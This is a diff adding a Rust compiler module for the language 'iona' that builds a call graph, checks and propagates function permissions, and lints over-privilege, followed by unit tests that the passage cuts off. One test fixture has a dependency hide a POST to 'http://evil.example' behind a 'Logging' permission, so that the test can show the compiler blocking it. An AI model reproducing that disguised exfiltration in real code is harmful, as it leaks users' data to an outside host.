@@ -0,0 +1,1149 @@
+//! The call graph of a whole program, and the permissions each function needs through it
+//!
+//! Functions are identified by the module that defines them, so a function imported under an alias (or through a re-export) is the same node everywhere it's called from. A function requires every permission it declares, plus every permission required by the functions it calls.
+
+use std::collections::{BTreeMap, BTreeSet, VecDeque};
+use std::fmt::Display;
+
+use crate::compiler_errors::{CompilerProblem, ProblemClass};
+use crate::grammars::Grammar;
+use crate::modules::{Module, Program};
+use crate::parse::{
+    call_arguments, enclosing_function, function_calls, is_permission_variable, FunctionData,
+};
+use crate::parse_expressions::{Literal, Object};
+use crate::permissions::{PermissionHierarchy, Permissions};
+use crate::stdlib::scoped_argument;
+
+/// A function, named by the module defining it
+#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub struct FunctionId {
+    pub module: String,
+    pub name: String,
+}
+
+impl Display for FunctionId {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(f, "{}.{}", self.module, self.name)
+    }
+}
+
+/// One call from one function to another
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct CallSite {
+    pub caller: FunctionId,
+    pub callee: FunctionId,
+    /// The name the callee is called by, which may be an alias or qualified name
+    pub called_as: String,
+    pub line: usize,
+    pub word: usize,
+    /// The literal path or URL passed to a builtin whose permissions can be scoped
+    pub argument: Option<String>,
+}
+
+impl CallSite {
+    /// A permission the callee requires, as this call needs it: limited to the call's literal path or host, if it has one
+    pub fn needs(&self, permission: &Permissions) -> Permissions {
+        match &self.argument {
+            Some(argument) if permission.is_scopable() => match permission.resource(argument) {
+                Some(scope) => Permissions::Scoped(Box::new(permission.clone()), scope),
+                None => permission.clone(),
+            },
+            _ => permission.clone(),
+        }
+    }
+
+    /// Everything this call needs, given what every function requires
+    pub fn needed<'a>(
+        &'a self,
+        required: &'a RequiredPermissions,
+    ) -> impl Iterator<Item = Permissions> + 'a {
+        required
+            .get(&self.callee)
+            .into_iter()
+            .flat_map(|r| r.keys())
+            .map(|p| self.needs(p))
+    }
+}
+
+/// Every function in a program, and every call between them
+#[derive(Debug, Default)]
+pub struct CallGraph {
+    pub functions: BTreeMap<FunctionId, FunctionData>,
+    /// The line each function is declared on, for functions defined in source code
+    pub lines: BTreeMap<FunctionId, usize>,
+    pub calls: Vec<CallSite>,
+    /// The program's custom permissions, which decide whether holding one permission covers another
+    pub hierarchy: PermissionHierarchy,
+}
+
+/// The permissions each function requires, each paired with the function it comes from
+pub type RequiredPermissions = BTreeMap<FunctionId, BTreeMap<Permissions, FunctionId>>;
+
+impl CallGraph {
+    pub fn build(program: &Program) -> CallGraph {
+        let mut graph = CallGraph {
+            hierarchy: program.permissions.clone(),
+            ..CallGraph::default()
+        };
+        for module in program.modules.values() {
+            for (name, data) in module.function_table.iter() {
+                if data.origin.is_none() {
+                    let id = FunctionId {
+                        module: module.name.clone(),
+                        name: name.clone(),
+                    };
+                    graph.functions.insert(id, data.clone());
+                }
+            }
+            for node in module.nodes.iter() {
+                if let Grammar::Function(g) = &node.grammar {
+                    let id = FunctionId {
+                        module: module.name.clone(),
+                        name: g.fn_name.clone(),
+                    };
+                    graph.lines.insert(id, node.source_line);
+                }
+            }
+        }
+        for module in program.compiled_modules() {
+            for (index, name, location) in function_calls(&module.nodes) {
+                let (Some(caller), Some(data)) = (
+                    enclosing_function(&module.nodes, index),
+                    module.function_table.get(&name),
+                ) else {
+                    continue;
+                };
+                // Functions passed in as arguments aren't known until the call, see `permission_variables`
+                if caller.arguments.iter().any(|arg| arg.name == name) {
+                    continue;
+                }
+                let callee = match &data.origin {
+                    Some(origin) => FunctionId {
+                        module: origin.module.clone(),
+                        name: origin.name.clone(),
+                    },
+                    None => FunctionId {
+                        module: module.name.clone(),
+                        name: name.clone(),
+                    },
+                };
+                // A literal path or URL narrows the permissions a call to a builtin needs
+                let argument = scoped_argument(&callee.module, &callee.name)
+                    .and_then(|position| {
+                        call_arguments(&module.nodes, index, location)?.get(position)
+                    })
+                    .and_then(|argument| match argument {
+                        Object::Value(Literal::Str(text), _) => {
+                            Some(text.trim_matches('"').to_string())
+                        }
+                        _ => None,
+                    });
+                // Modules that are never loaded (like the prelude) only exist in the tables importing them
+                graph
+                    .functions
+                    .entry(callee.clone())
+                    .or_insert_with(|| data.clone());
+                graph.calls.push(CallSite {
+                    caller: FunctionId {
+                        module: module.name.clone(),
+                        name: caller.fn_name.clone(),
+                    },
+                    callee,
+                    called_as: name,
+                    line: location.line,
+                    word: location.word,
+                    argument,
+                });
+            }
+        }
+        graph
+    }
+
+    pub fn calls_from<'a>(&'a self, caller: &'a FunctionId) -> impl Iterator<Item = &'a CallSite> {
+        self.calls.iter().filter(move |call| call.caller == *caller)
+    }
+
+    pub fn declared_permissions(&self, function: &FunctionId) -> &[Permissions] {
+        self.functions
+            .get(function)
+            .map_or(&[], |data| data.permissions.as_slice())
+    }
+
+    /// The permissions a function may use: the ones it declares, and the ones it's trusted with
+    pub fn held_permissions(&self, function: &FunctionId) -> Vec<Permissions> {
+        self.functions.get(function).map_or(Vec::new(), |data| {
+            data.permissions
+                .iter()
+                .chain(data.trusted.iter().flat_map(|t| t.permissions.iter()))
+                .cloned()
+                .collect()
+        })
+    }
+
+    /// Whether a function absorbs a permission with `#Trusted`, so it doesn't pass it on to its callers
+    pub fn absorbs(&self, function: &FunctionId, permission: &Permissions) -> bool {
+        self.functions.get(function).is_some_and(|data| {
+            data.trusted
+                .iter()
+                .any(|t| self.hierarchy.covers(&t.permissions, permission))
+        })
+    }
+
+    /// The permissions every function requires, through any chain of calls
+    ///
+    /// Each permission is paired with the function that introduces it: the end of the shortest call chain to a function that declares it without needing it for a call. Permissions a function is trusted with stop there.
+    pub fn required_permissions(&self) -> RequiredPermissions {
+        // Keep propagating permissions up from callees until nothing changes (recursion means one pass isn't enough)
+        let mut required: BTreeMap<&FunctionId, BTreeSet<Permissions>> = self
+            .functions
+            .keys()
+            .map(|id| (id, self.declared_permissions(id).iter().cloned().collect()))
+            .collect();
+        let mut changed = true;
+        while changed {
+            changed = false;
+            for call in self.calls.iter() {
+                let from_callee: Vec<Permissions> = required
+                    .get(&call.callee)
+                    .into_iter()
+                    .flatten()
+                    .map(|p| call.needs(p))
+                    .collect();
+                if let Some(caller) = required.get_mut(&call.caller) {
+                    for permission in from_callee {
+                        if self.absorbs(&call.caller, &permission) {
+                            continue;
+                        }
+                        changed |= caller.insert(permission);
+                    }
+                }
+            }
+        }
+        let needs = |call: &CallSite, p: &Permissions| {
+            required
+                .get(&call.callee)
+                .is_some_and(|s| s.iter().any(|q| call.needs(q) == *p))
+        };
+        required
+            .iter()
+            .map(|(id, permissions)| {
+                let introduced = permissions
+                    .iter()
+                    .map(|p| {
+                        let chain = self.chain(
+                            id,
+                            |f| self.declares(f, p) && !self.calls_from(f).any(|c| needs(c, p)),
+                            |c| needs(c, p),
+                        );
+                        let introducer = chain
+                            .and_then(|c| c.last().map(|call| call.callee.clone()))
+                            .unwrap_or_else(|| (*id).clone());
+                        (p.clone(), introducer)
+                    })
+                    .collect();
+                ((*id).clone(), introduced)
+            })
+            .collect()
+    }
+
+    /// The shortest chain of calls accepted by `follow` from a function to one matching `target` (empty if it matches itself)
+    pub fn chain<'a>(
+        &'a self,
+        from: &'a FunctionId,
+        target: impl Fn(&FunctionId) -> bool,
+        follow: impl Fn(&CallSite) -> bool,
+    ) -> Option<Vec<&'a CallSite>> {
+        let mut reached: BTreeMap<&FunctionId, Option<&CallSite>> = BTreeMap::new();
+        let mut queue: VecDeque<&FunctionId> = VecDeque::new();
+        reached.insert(from, None);
+        queue.push_back(from);
+        while let Some(function) = queue.pop_front() {
+            if target(function) {
+                let mut chain: Vec<&CallSite> = Vec::new();
+                let mut current = function;
+                while let Some(Some(call)) = reached.get(current) {
+                    chain.push(call);
+                    current = &call.caller;
+                }
+                chain.reverse();
+                return Some(chain);
+            }
+            for call in self.calls_from(function).filter(|call| follow(call)) {
+                if !reached.contains_key(&call.callee) {
+                    reached.insert(&call.callee, Some(call));
+                    queue.push_back(&call.callee);
+                }
+            }
+        }
+        None
+    }
+
+    /// Whether a function is where a permission starts: it declares the permission, and doesn't call anything requiring it
+    pub fn is_introducer(
+        &self,
+        required: &RequiredPermissions,
+        function: &FunctionId,
+        permission: &Permissions,
+    ) -> bool {
+        self.declares(function, permission)
+            && !self
+                .calls_from(function)
+                .any(|call| call.needed(required).any(|p| p == *permission))
+    }
+
+    /// Whether a function declares a permission, or the unscoped permission a call with a literal argument narrows
+    fn declares(&self, function: &FunctionId, permission: &Permissions) -> bool {
+        let declared = self.declared_permissions(function);
+        declared.contains(permission) || declared.contains(permission.unscoped())
+    }
+
+    /// Chains of calls from a function to one matching `target`, at most `limit` of them, shortest first
+    ///
+    /// Chains only follow calls accepted by `follow`, never visit a function twice, and use the first such call between any two functions. The number of chains can grow exponentially with the size of the graph, so the search stops once `limit` are found
+    pub fn all_chains<'a>(
+        &'a self,
+        from: &'a FunctionId,
+        target: impl Fn(&FunctionId) -> bool,
+        follow: impl Fn(&CallSite) -> bool,
+        limit: usize,
+    ) -> Vec<Vec<&'a CallSite>> {
+        let mut chains: Vec<Vec<&CallSite>> = Vec::new();
+        let mut current: Vec<&CallSite> = Vec::new();
+        self.extend_chains(from, &target, &follow, limit, &mut current, &mut chains);
+        chains.sort_by_key(|chain| chain.len());
+        chains
+    }
+
+    fn extend_chains<'a>(
+        &'a self,
+        function: &'a FunctionId,
+        target: &impl Fn(&FunctionId) -> bool,
+        follow: &impl Fn(&CallSite) -> bool,
+        limit: usize,
+        current: &mut Vec<&'a CallSite>,
+        chains: &mut Vec<Vec<&'a CallSite>>,
+    ) {
+        if target(function) {
+            chains.push(current.clone());
+            return;
+        }
+        let mut followed: BTreeSet<&FunctionId> = BTreeSet::new();
+        for call in self.calls_from(function) {
+            if chains.len() >= limit {
+                return;
+            }
+            let visited = call.callee == *current.first().map_or(function, |c| &c.caller)
+                || current.iter().any(|c| c.callee == call.callee);
+            if visited || !follow(call) || !followed.insert(&call.callee) {
+                continue;
+            }
+            current.push(call);
+            self.extend_chains(&call.callee, target, follow, limit, current, chains);
+            current.pop();
+        }
+    }
+}
+
+/// Every call to a function requiring a permission the caller doesn't declare, paired with the caller's module
+///
+/// Each missing permission is reported once per caller and callee, at the first call
+pub fn check_permissions(
+    graph: &CallGraph,
+    required: &RequiredPermissions,
+) -> Vec<(String, CompilerProblem)> {
+    let mut problems: Vec<(String, CompilerProblem)> = Vec::new();
+    let mut reported: BTreeSet<(&FunctionId, &FunctionId, Permissions)> = BTreeSet::new();
+    for call in graph.calls.iter() {
+        let declared = graph.held_permissions(&call.caller);
+        let Some(callee_requires) = required.get(&call.callee) else {
+            continue;
+        };
+        for (permission, introducer) in callee_requires {
+            let permission = &call.needs(permission);
+            if graph.hierarchy.covers(&declared, permission)
+                || !reported.insert((&call.caller, &call.callee, permission.clone()))
+            {
+                continue;
+            }
+            let through = if *introducer == call.callee {
+                String::new()
+            } else if introducer.module == call.caller.module {
+                format!(" (through `{}`)", introducer.name)
+            } else {
+                format!(
+                    " (through `{}` from `{}`)",
+                    introducer.name, introducer.module
+                )
+            };
+            // Holding the permission for some paths or hosts isn't enough for others
+            let narrower: Vec<String> = declared
+                .iter()
+                .filter(|p| p.unscoped() == permission.unscoped())
+                .map(|p| format!("`{p}`"))
+                .collect();
+            let lacking = if narrower.is_empty() {
+                "doesn't have that permission".to_string()
+            } else {
+                format!("only has {}", english_list(narrower))
+            };
+            let problem = CompilerProblem::new(
+                ProblemClass::Error,
+                &format!(
+                    "`{}` calls `{}`, which requires `{permission}`{through}, but `{}` {lacking}",
+                    call.caller.name, call.called_as, call.caller.name
+                ),
+                &format!(
+                    "add it to `{}`: `#Permissions :: {}`",
+                    call.caller.name,
+                    suggested_permissions(graph, required, &call.caller)
+                ),
+                call.line,
+                call.word,
+            );
+            // Point at the function introducing the permission, if it's in the same file
+            let problem = match graph.lines.get(introducer) {
+                Some(line) if introducer.module == call.caller.module => problem.with_related(
+                    &format!("`{}` declares `{permission}`", introducer.name),
+                    *line,
+                    1,
+                ),
+                _ => problem,
+            };
+            problems.push((call.caller.module.clone(), problem));
+        }
+    }
+    problems
+}
+
+/// The `#Permissions` list a function needs: what it declares, followed by what its callees add
+///
+/// Unknown (or misspelled) declared permissions are left out, they're reported on their own
+fn suggested_permissions(
+    graph: &CallGraph,
+    required: &RequiredPermissions,
+    function: &FunctionId,
+) -> String {
+    let declared: Vec<Permissions> = graph
+        .declared_permissions(function)
+        .iter()
+        .filter(|p| graph.hierarchy.is_known(p))
+        .cloned()
+        .collect();
+    let added = uncovered(
+        &graph.hierarchy,
+        &declared,
+        needed_by_callees(graph, required, function),
+    );
+    // Scoped permissions are dropped when an added one covers them
+    let mut permissions: Vec<Permissions> = declared
+        .iter()
+        .filter(|p| !graph.hierarchy.covers(&added, p))
+        .cloned()
+        .collect();
+    permissions.extend(added);
+    // Permission variables aren't permissions the function requires, but it still has to declare them
+    permissions.extend(
+        graph
+            .functions
+            .get(function)
+            .into_iter()
+            .flat_map(|data| data.permission_variables.iter())
+            .map(|variable| Permissions::Custom(variable.clone())),
+    );
+    listed(&permissions)
+}
+
+/// The needed permissions that aren't covered by the ones held, in order
+///
+/// Unscoped permissions come first, so a scoped one is left out when the unscoped one is needed too
+fn uncovered(
+    hierarchy: &PermissionHierarchy,
+    held: &[Permissions],
+    needed: BTreeSet<Permissions>,
+) -> Vec<Permissions> {
+    let mut added: Vec<Permissions> = Vec::new();
+    for permission in needed {
+        if !hierarchy.covers(held, &permission) && !hierarchy.covers(&added, &permission) {
+            added.push(permission);
+        }
+    }
+    added
+}
+
+/// A list of permissions as written after `#Permissions ::`
+fn listed(permissions: &[Permissions]) -> String {
+    permissions
+        .iter()
+        .map(|p| p.to_string())
+        .collect::<Vec<String>>()
+        .join(" ")
+}
+
+/// `a`, `a and b`, `a, b and c`
+pub fn english_list(mut items: Vec<String>) -> String {
+    match items.pop() {
+        Some(last) if !items.is_empty() => format!("{} and {last}", items.join(", ")),
+        Some(last) => last,
+        None => String::new(),
+    }
+}
+
+/// The permissions a function needs for the calls it makes, apart from the ones it's trusted with
+fn needed_by_callees(
+    graph: &CallGraph,
+    required: &RequiredPermissions,
+    function: &FunctionId,
+) -> BTreeSet<Permissions> {
+    graph
+        .calls_from(function)
+        .flat_map(|call| call.needed(required))
+        .filter(|p| !graph.absorbs(function, p))
+        .collect()
+}
+
+/// Lint functions declaring permissions that nothing they call needs, with a fix rewriting `#Permissions` to the least privilege
+///
+/// A declared permission is needed if anything it implies is. Custom permissions that imply nothing stand for effects the compiler can't see, so they're never linted. Modules with errors are skipped, since lines that failed to parse may hold the calls needing a permission
+pub fn over_privilege_lints(
+    program: &Program,
+    graph: &CallGraph,
+    required: &RequiredPermissions,
+) -> Vec<(String, CompilerProblem)> {
+    let mut lints: Vec<(String, CompilerProblem)> = Vec::new();
+    let has_errors = |module: &&Module| {
+        module
+            .problems
+            .iter()
+            .any(|p| p.class == ProblemClass::Error)
+    };
+    for module in program.compiled_modules().filter(|m| !has_errors(m)) {
+        for node in module.nodes.iter() {
+            let Grammar::Permission(g) = &node.grammar else {
+                continue;
+            };
+            let Some(function) = node.parent_node_line.and_then(|line| {
+                graph
+                    .lines
+                    .iter()
+                    .find(|(id, l)| id.module == module.name && **l == line)
+                    .map(|(id, _)| id)
+            }) else {
+                continue;
+            };
+            let hierarchy = &graph.hierarchy;
+            let needed = needed_by_callees(graph, required, function);
+            let arguments = graph.functions.get(function).map_or(&[][..], |f| &f.args);
+            let is_used = |p: &Permissions| {
+                is_permission_variable(arguments, p)
+                    || hierarchy.is_opaque(p)
+                    || needed
+                        .iter()
+                        .any(|n| hierarchy.covers(std::slice::from_ref(p), n))
+            };
+            let unused: Vec<(usize, &Permissions)> = g
+                .p_list
+                .iter()
+                .enumerate()
+                .filter(|(_, p)| !is_used(p))
+                .collect();
+            let Some((first, _)) = unused.first() else {
+                continue;
+            };
+            let mut least: Vec<Permissions> =
+                g.p_list.iter().filter(|p| is_used(p)).cloned().collect();
+            least.extend(uncovered(hierarchy, &least, needed.clone()));
+            let listed = listed(&least);
+            let source_line = module.source.lines().nth(node.source_line).unwrap_or("");
+            let indent = &source_line[..source_line.len() - source_line.trim_start().len()];
+            let (hint, replacement) = if least.is_empty() {
+                ("remove the `#Permissions` line".to_string(), None)
+            } else {
+                (
+                    format!("use the least privilege needed: `#Permissions :: {listed}`"),
+                    Some(format!("{indent}#Permissions :: {listed}")),
+                )
+            };
+            lints.push((
+                module.name.clone(),
+                CompilerProblem::new(
+                    ProblemClass::Lint,
+                    &format!(
+                        "`{}` declares {}, but nothing it calls needs {}",
+                        function.name,
+                        english_list(unused.iter().map(|(_, p)| format!("`{p}`")).collect()),
+                        if unused.len() == 1 { "it" } else { "them" }
+                    ),
+                    &format!("{hint} (or run with `--fix`)"),
+                    node.source_line,
+                    first + 2,
+                )
+                .with_fix(node.source_line, replacement),
+            ));
+        }
+    }
+    lints
+}
+
+// -------------------- Unit Tests --------------------
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::compiler_errors::{apply_fixes, ProblemClass};
+    use crate::modules::tests::{messages, project};
+
+    fn errors(program: &Program, module: &str) -> Vec<CompilerProblem> {
+        program.modules[module]
+            .problems
+            .iter()
+            .filter(|p| p.class == ProblemClass::Error)
+            .cloned()
+            .collect()
+    }
+
+    #[test]
+    fn permissions_transitive() {
+        let root = project(
+            "permissions-transitive",
+            &[
+                (
+                    "main.iona",
+                    "import copy_to from files\nfn main :: void {\n    copy_to \"a\" \"b\"\n}",
+                ),
+                (
+                    "files.iona",
+                    "import read_file write_file from std.files
+fn copy_to :: old str -> new str -> void {
+    #Properties :: Export
+    #Permissions :: ReadFile
+    let data :: str = read_file old
+    save data new
+}
+fn save :: data str -> path str -> void {
+    #Permissions :: WriteFile
+    write_file data path
+}",
+                ),
+            ],
+        );
+        let program = Program::load(&root.join("main.iona"), vec![root.clone()]).unwrap();
+        let graph = CallGraph::build(&program);
+        let required = graph.required_permissions();
+        let copy_to = FunctionId {
+            module: "files".to_string(),
+            name: "copy_to".to_string(),
+        };
+        assert_eq!(
+            required[&copy_to]
+                .keys()
+                .cloned()
+                .collect::<Vec<Permissions>>(),
+            vec![Permissions::ReadFile, Permissions::WriteFile]
+        );
+        assert_eq!(
+            required[&copy_to][&Permissions::WriteFile].name,
+            "write_file"
+        );
+
+        // `copy_to` is missing the permission `save` needs
+        let files = errors(&program, "files");
+        println!("{:#?}", files);
+        assert_eq!(files.len(), 1);
+        assert_eq!(
+            files[0].message,
+            "`copy_to` calls `save`, which requires `WriteFile` (through `write_file` from `std.files`), but `copy_to` doesn't have that permission"
+        );
+        assert_eq!(files[0].line, 5);
+
+        // `main` is missing both, one of them through a function in another module
+        let main = errors(&program, "main");
+        println!("{:#?}", main);
+        let messages: Vec<&str> = main.iter().map(|p| p.message.as_str()).collect();
+        assert_eq!(
+            messages,
+            vec![
+                "`main` calls `copy_to`, which requires `ReadFile` (through `read_file` from `std.files`), but `main` doesn't have that permission",
+                "`main` calls `copy_to`, which requires `WriteFile` (through `write_file` from `std.files`), but `main` doesn't have that permission",
+            ]
+        );
+        assert_eq!(main[0].line, 2);
+        assert!(main[0].related.is_none());
+    }
+
+    #[test]
+    fn permissions_recursive_and_local() {
+        let root = project(
+            "permissions-recursive",
+            &[(
+                "main.iona",
+                "import read_file from std.files
+fn ping :: n int -> void {
+    #Permissions :: ReadFile
+    pong n
+}
+fn pong :: n int -> void {
+    #Permissions :: ReadFile
+    ping n
+    read_file \"a\"
+}
+fn main :: void {
+    #Permissions :: ReadFile
+    ping 1
+}
+fn peek :: void {
+    #Permissions :: ReadFile
+}
+fn other :: void {
+    peek
+}",
+            )],
+        );
+        let program = Program::load(&root.join("main.iona"), vec![root.clone()]).unwrap();
+        // Recursion doesn't need anything extra, and only `other` is missing a permission
+        let main = errors(&program, "main");
+        println!("{:#?}", main);
+        assert_eq!(main.len(), 1);
+        assert_eq!(
+            main[0].message,
+            "`other` calls `peek`, which requires `ReadFile`, but `other` doesn't have that permission"
+        );
+        assert_eq!(main[0].line, 18);
+        let related = main[0].related.as_ref().unwrap();
+        assert_eq!(
+            (related.message.as_str(), related.line),
+            ("`peek` declares `ReadFile`", 14)
+        );
+        let graph = CallGraph::build(&program);
+        let main = FunctionId {
+            module: "main".to_string(),
+            name: "main".to_string(),
+        };
+        let chain = graph
+            .chain(&main, |f| f.name == "read_file", |_| true)
+            .unwrap();
+        let hops: Vec<&str> = chain.iter().map(|c| c.called_as.as_str()).collect();
+        assert_eq!(hops, vec!["ping", "pong", "read_file"]);
+    }
+
+    #[test]
+    fn over_privilege_fix() {
+        let source = "import read_file from std.files
+fn load :: path str -> str {
+    #Permissions :: ReadFile WriteNetwork WriteFile
+    return read_file path
+}
+fn idle :: void {
+    #Permissions :: ReadNetwork
+}
+fn main :: void {
+    #Permissions :: ReadFile WriteNetwork WriteFile
+    load \"a\"
+}
+";
+        let root = project("over-privilege", &[("main.iona", source)]);
+        let program = Program::load(&root.join("main.iona"), vec![root.clone()]).unwrap();
+        let module = &program.modules["main"];
+        let lints: Vec<&CompilerProblem> = module
+            .problems
+            .iter()
+            .filter(|p| p.class == ProblemClass::Lint)
+            .collect();
+        println!("{:#?}", lints);
+        let messages: Vec<&str> = lints.iter().map(|p| p.message.as_str()).collect();
+        assert_eq!(
+            messages,
+            vec![
+                "`load` declares `WriteNetwork` and `WriteFile`, but nothing it calls needs them",
+                "`idle` declares `ReadNetwork`, but nothing it calls needs it",
+            ]
+        );
+        assert_eq!((lints[0].line, lints[0].word_index), (2, 3));
+        let (fixed, count) = apply_fixes(&module.source, &module.problems);
+        assert_eq!(count, 2);
+        assert_eq!(
+            fixed,
+            source
+                .replace(
+                    "ReadFile WriteNetwork WriteFile\n    return",
+                    "ReadFile\n    return"
+                )
+                .replace("    #Permissions :: ReadNetwork\n", "")
+        );
+    }
+
+    #[test]
+    fn over_privilege_with_errors() {
+        let source = "import read_file from std.files
+fn main :: void {
+    #Permissions :: ReadFile
+    let data :: str = read_file (\"unclosed\"
+}
+";
+        let root = project("over-privilege-errors", &[("main.iona", source)]);
+        let program = Program::load(&root.join("main.iona"), vec![root.clone()]).unwrap();
+        let module = &program.modules["main"];
+        println!("{:#?}", module.problems);
+        assert!(module
+            .problems
+            .iter()
+            .any(|p| p.class == ProblemClass::Error));
+        assert!(!module
+            .problems
+            .iter()
+            .any(|p| p.class == ProblemClass::Lint && p.message.contains("ReadFile")));
+        assert_eq!(apply_fixes(&module.source, &module.problems).1, 0);
+    }
+
+    #[test]
+    fn permissions_hierarchy() {
+        let root = project(
+            "permissions-hierarchy",
+            &[(
+                "main.iona",
+                "import read_file write_file from std.files
+permission FileIO :: ReadFile WriteFile
+permission Telemetry
+fn copy :: source str -> target str -> void {
+    #Permissions :: FileIO
+    let data :: str = read_file source
+    write_file data target
+}
+fn report :: void {
+    #Permissions :: Telemetry
+}
+fn main :: void {
+    #Permissions :: FileIO ReadFlie Telemetry
+    copy \"a\" \"b\"
+    report
+}
+fn partial :: void {
+    #Permissions :: ReadFile WriteFile
+    copy \"a\" \"b\"
+}",
+            )],
+        );
+        let program = Program::load(&root.join("main.iona"), vec![root.clone()]).unwrap();
+        let problems = &program.modules["main"].problems;
+        println!("{:#?}", problems);
+        let messages: Vec<&str> = problems.iter().map(|p| p.message.as_str()).collect();
+        // `FileIO` covers `ReadFile` and `WriteFile`, but holding both doesn't cover `FileIO`
+        assert_eq!(
+            messages,
+            vec![
+                "unknown permission `ReadFlie`",
+                "`partial` calls `copy`, which requires `FileIO`, but `partial` doesn't have that permission",
+            ]
+        );
+        assert_eq!((problems[0].line, problems[0].word_index), (12, 3));
+        assert_eq!(
+            program
+                .permissions
+                .implied(&Permissions::from_str("FileIO")),
+            BTreeSet::from([
+                Permissions::Custom("FileIO".to_string()),
+                Permissions::ReadFile,
+                Permissions::WriteFile
+            ])
+        );
+    }
+
+    #[test]
+    fn permissions_per_module() {
+        // A dependency can't widen a permission the program declared by declaring the same name
+        let root = project(
+            "permissions-shadowed",
+            &[
+                (
+                    "main.iona",
+                    "import send from dep
+permission Logging
+fn main :: void {
+    #Permissions :: Logging
+    send \"x\"
+}",
+                ),
+                (
+                    "dep.iona",
+                    "import request from std.networking
+permission Logging :: ReadNetwork WriteNetwork
+fn send :: message str -> void {
+    #Properties :: Export
+    #Permissions :: Logging
+    let reply :: str = request \"POST\" \"http://evil.example\" message
+}",
+                ),
+            ],
+        );
+        let program = Program::load(&root.join("main.iona"), vec![root.clone()]).unwrap();
+        assert_eq!(
+            messages(&program, "dep")[0],
+            "the permission `Logging` is also declared in `main`"
+        );
+        let main = messages(&program, "main");
+        assert_eq!(
+            main[0],
+            "the permission `Logging` is also declared in `dep`"
+        );
+        assert!(main.contains(&"`main` calls `send`, which requires `dep.Logging`, but `main` doesn't have that permission".to_string()));
+        assert!(!program.permissions.covers(
+            &[Permissions::from_str("Logging")],
+            &Permissions::WriteNetwork
+        ));
+
+        // Other modules' permissions are written `module.Name`
+        let root = project(
+            "permissions-qualified",
+            &[
+                (
+                    "main.iona",
+                    "import send from dep
+fn main :: void {
+    #Permissions :: dep.Network
+    send \"x\"
+}
+fn other :: void {
+    #Permissions :: Network
+    send \"y\"
+}",
+                ),
+                (
+                    "dep.iona",
+                    "import request from std.networking
+permission Network :: ReadNetwork WriteNetwork
+fn send :: message str -> void {
+    #Properties :: Export
+    #Permissions :: Network
+    let reply :: str = request \"POST\" \"http://example.com\" message
+}",
+                ),
+            ],
+        );
+        let program = Program::load(&root.join("main.iona"), vec![root.clone()]).unwrap();
+        assert!(program.modules["dep"].problems.is_empty());
+        let problems = &program.modules["main"].problems;
+        assert_eq!(
+            problems[0],
+            CompilerProblem::new(
+                ProblemClass::Error,
+                "unknown permission `Network`",
+                "it's declared in another module, so write `dep.Network`",
+                6,
+                2,
+            )
+        );
+        // `main` holds `dep.Network`, so only `other` is missing it
+        let main = messages(&program, "main");
+        assert!(main.contains(&"`other` calls `send`, which requires `dep.Network`, but `other` doesn't have that permission".to_string()));
+        assert!(main[1..].iter().all(|m| m.starts_with("`other`")));
+    }
+
+    #[test]
+    fn suggestion_skips_unknown_permissions() {
+        let root = project(
+            "suggestion-unknown",
+            &[(
+                "main.iona",
+                "import read_file from std.files
+fn main :: void {
+    #Permissions :: ReadFlie
+    let data :: str = read_file \"a\"
+}",
+            )],
+        );
+        let program = Program::load(&root.join("main.iona"), vec![root.clone()]).unwrap();
+        let problems = &program.modules["main"].problems;
+        // The misspelling is reported once, not copied into the suggested line
+        assert_eq!(problems.len(), 2);
+        assert_eq!(problems[0].message, "unknown permission `ReadFlie`");
+        assert_eq!(
+            problems[1],
+            CompilerProblem::new(
+                ProblemClass::Error,
+                "`main` calls `read_file`, which requires `ReadFile(\"a\")`, but `main` doesn't have that permission",
+                "add it to `main`: `#Permissions :: ReadFile(\"a\")`",
+                3,
+                5,
+            )
+        );
+    }
+
+    #[test]
+    fn permissions_scoped() {
+        let root = project(
+            "permissions-scoped",
+            &[(
+                "main.iona",
+                "import read_file from std.files
+import request from std.networking
+permission AppConfig :: ReadFile(\"/etc/app/*\")
+permission Metrics
+fn load :: path str -> str {
+    #Permissions :: ReadFile(\"/etc/app/*\")
+    return read_file \"/etc/app/config\"
+}
+fn open :: path str -> str {
+    #Permissions :: ReadFile(\"/etc/app/*\")
+    return read_file path
+}
+fn main :: void {
+    #Permissions :: ReadFile(\"/etc/**\") WriteNetwork(\"localhost:*\") ReadNetwork(\"localhost\")
+    let config :: str = load \"x\"
+    let secret :: str = read_file \"/root/secret\"
+    let reply :: str = request \"POST\" \"http://localhost:8080/api\" config
+    let other :: str = request \"GET\" \"https://example.com/\" \"\"
+}
+fn count :: void {
+    #Permissions :: Metrics(\"x\")
+}",
+            )],
+        );
+        let program = Program::load(&root.join("main.iona"), vec![root.clone()]).unwrap();
+        let problems: Vec<&CompilerProblem> = program.modules["main"]
+            .problems
+            .iter()
+            .filter(|p| p.class == ProblemClass::Error)
+            .collect();
+        println!("{:#?}", problems);
+        let messages: Vec<&str> = problems.iter().map(|p| p.message.as_str()).collect();
+        assert_eq!(
+            messages,
+            vec![
+                "`Metrics` can't be limited to a scope",
+                "`open` calls `read_file`, which requires `ReadFile`, but `open` only has `ReadFile(\"/etc/app/*\")`",
+                "`main` calls `read_file`, which requires `ReadFile(\"/root/secret\")`, but `main` only has `ReadFile(\"/etc/**\")`",
+                "`main` calls `request`, which requires `ReadNetwork(\"example.com:443\")`, but `main` only has `ReadNetwork(\"localhost\")`",
+                "`main` calls `request`, which requires `WriteNetwork(\"example.com:443\")`, but `main` only has `WriteNetwork(\"localhost:*\")`",
+            ]
+        );
+        assert_eq!((problems[2].line, problems[2].word_index), (15, 5));
+        // Chains follow the call that passes the scoped permission on, not just any call to the builtin
+        let graph = CallGraph::build(&program);
+        let required = graph.required_permissions();
+        let main = FunctionId {
+            module: "main".to_string(),
+            name: "main".to_string(),
+        };
+        let secret = Permissions::from_str("ReadFile(\"/root/secret\")");
+        assert_eq!(required[&main][&secret].to_string(), "std.files.read_file");
+        let chain = graph
+            .chain(
+                &main,
+                |f| f.name == "read_file",
+                |call| call.needed(&required).any(|p| p == secret),
+            )
+            .unwrap();
+        assert_eq!(
+            chain.iter().map(|c| c.line).collect::<Vec<usize>>(),
+            vec![15]
+        );
+
+        let hierarchy = &program.permissions;
+        let scoped = |text: &str| Permissions::from_str(text);
+        assert!(hierarchy.covers(&[scoped("AppConfig")], &scoped("ReadFile(\"/etc/app/a\")")));
